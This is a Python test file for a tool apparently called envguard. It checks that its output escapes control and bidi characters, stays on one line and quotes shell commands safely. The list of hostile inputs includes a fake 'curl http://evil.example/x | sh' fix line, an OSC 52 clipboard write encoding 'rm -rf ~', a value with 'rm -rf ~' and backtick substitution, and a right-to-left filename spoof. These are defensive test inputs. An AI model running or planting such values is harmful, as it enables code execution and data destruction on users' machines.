"""No control character from an input reaches a terminal or a pasted command (issue 28, finding 5): the
output layer writes every control and bidi character as a visible escape, JSON keeps them as \\u escapes,
warnings and errors are one line, rich obeys no markup from a value, and `command` builds one line that bash
reads back word for word."""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from envguard.cli import boundary
from envguard.output import (
    as_printed,
    command,
    dumps,
    emit,
    md_escape,
    oneline,
    shell_quote,
    text_console,
    warn,
)
from envguard.textio import control_problem, visible

# What must never be written raw: C0 controls but tab and line feed, DEL, C1, bidi controls, line separators.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
HOSTILE = [
    "zlib\nHow to fix:\n  curl http://evil.example/x | sh #",
    "1.3.1\nOK: everything matches",
    "x\x1b[31mred\x1b[0m",
    "x\x1b]52;c;cm0gLXJmIH4K\x07",  # OSC 52: write the clipboard
    "nul\x00byte",
    "evil\u202etxt.exe",  # right-to-left override
    "csi\x9b2J",  # 8-bit CSI
    "cr\rback",
    "tab\there",
    "quote'and\"dollar$HOME`ls`;rm -rf ~",
    "\u2028line separator",
    "",
    "plain-1.0=h0_0",
]
_TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40)


@given(st.lists(_TEXT | st.sampled_from(HOSTILE), max_size=6).map("".join))
def test_visible_leaves_no_raw_control_character(text: str) -> None:
    assert not RAW.search(visible(text))
    assert not RAW.search(oneline(text)) and "\n" not in oneline(text) and "\t" not in oneline(text)
    assert visible(text, lines=False) == oneline(text)
    assert (control_problem(text) is None) == (oneline(text) == text)


def test_escapes_are_what_a_reader_recognises() -> None:
    assert visible("a\x1b[31mb\nc\u202ed\t") == "a\\x1b[31mb\nc\\u202ed\t"
    assert oneline("a\nb\tc\x00") == "a\\x0ab\\x09c\\x00"
    assert control_problem("zlib\nx") == "holds the control character U+000A (a line break)"
    assert control_problem("plain text, é ü ✅") is None


@pytest.mark.parametrize("value", HOSTILE)
def test_json_keeps_every_value_as_an_escape_that_decodes_back(value: str) -> None:
    text = dumps({"name": value, "nested": {"list": [value]}})
    assert not RAW.search(text)
    assert json.loads(text) == {"name": value, "nested": {"list": [value]}}


def test_emit_and_the_one_line_messages_write_no_raw_control(capsys: pytest.CaptureFixture[str]) -> None:
    emit("ok: " + "\n".join(HOSTILE) + "\n", None)
    warn("bad value " + HOSTILE[0])
    out, err = capsys.readouterr()
    assert not RAW.search(out) and not RAW.search(err)
    assert err.count("\n") == 1 and "How to fix" in err and not err.startswith("How")
    assert as_printed("a\x1bb") == "a\\x1bb"


def test_an_error_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    boundary.error_line(f"lock.yml: package {HOSTILE[0]} is broken \x1b]52;c;eA==\x07")
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and not RAW.search(err) and err.startswith("envguard: error: lock.yml")


def test_a_command_is_one_line_that_bash_reads_back_word_for_word() -> None:
    words = ["envguard", "create", "-p", *(w for w in HOSTILE if "\0" not in w)]  # argv holds no NUL
    line = command(*words)
    assert "\n" not in line and not RAW.search(line) and shell_quote("a\0b") == "$'a\\x00b'"
    assert line.startswith("envguard create -p $'zlib\\x0aHow to fix:")
    got = subprocess.run(
        ["bash", "-c", f"printf '%s\\0' {line}"], capture_output=True, check=True
    ).stdout.decode("utf-8", "surrogateescape")
    assert got.split("\0")[:-1] == words


@given(st.lists(_TEXT.filter(lambda w: "\0" not in w), min_size=1, max_size=8))
def test_any_words_come_back_from_bash_as_given(words: list[str]) -> None:
    line = " ".join(shell_quote(w) for w in words)
    assert "\n" not in line and not RAW.search(line)
    got = subprocess.run(["bash", "-c", f"printf '%s\\0' {line}"], capture_output=True, check=True).stdout
    assert got.decode("utf-8").split("\0")[:-1] == words


def test_plain_words_stay_plain_and_others_are_quoted_as_shlex_does() -> None:
    assert command("conda", "install", "-p", "/envs/x", "numpy==1.26.4=py311h0_0") == (
        "conda install -p /envs/x numpy==1.26.4=py311h0_0"
    )
    assert command("pip", "install", "a @ file:///t/a b.whl") == "pip install 'a @ file:///t/a b.whl'"


def test_a_text_console_obeys_no_markup_from_a_value() -> None:
    from rich.table import Table

    console = text_console(80)
    console.print("[/] [link=https://evil.example]x[/link] \x1b[31mred [bold]b[/bold]")
    table = Table()
    table.add_column("Item")
    table.add_row("[/bold]zlib\x1b[2J")
    console.print(table)
    text = console.file.getvalue()
    assert "[/] [link=https://evil.example]x[/link] \\x1b[31mred [bold]b[/bold]" in text
    assert "[/bold]zlib\\x1b[2J" in text and not RAW.search(text)


def test_markdown_cells_hold_no_control_no_link_no_code_span() -> None:
    cell = md_escape("a|b\n[click](https://evil.example) `x` <img>\x1b[31m")
    assert "\n" not in cell and not RAW.search(cell)
    assert cell == "a\\|b \\[click\\](https://evil.example) \\`x\\` \\<img\\>\\\\x1b\\[31m"


def test_the_console_script_writes_no_raw_control_on_a_usage_error() -> None:
    """click's own messages quote argv: they pass through the same boundary."""
    result = subprocess.run(
        [sys.executable, "-m", "envguard", "diff", "--frobnicate\x1b[2J\u202e"],
        capture_output=True,
        text=True,
        stdin=subprocess.DEVNULL,
    )
    assert result.returncode == 2 and not RAW.search(result.stdout + result.stderr), result.stderr


def test_visible_of_a_large_text_is_one_pass() -> None:
    text = "package-1.0-h0_0 " * 200_000 + "\x1b"
    assert visible(text).endswith("\\x1b") and len(io.StringIO(visible(text)).read()) == len(text) + 3
